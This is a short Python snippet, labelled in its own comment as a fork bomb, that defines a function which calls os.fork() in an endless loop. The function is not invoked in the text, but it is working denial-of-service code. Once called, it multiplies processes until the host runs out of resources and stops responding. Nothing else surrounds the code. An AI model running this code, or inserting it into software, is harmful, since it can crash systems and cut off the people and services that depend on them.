# A fork bomb.
import os


def f():
    while True:
        os.fork()
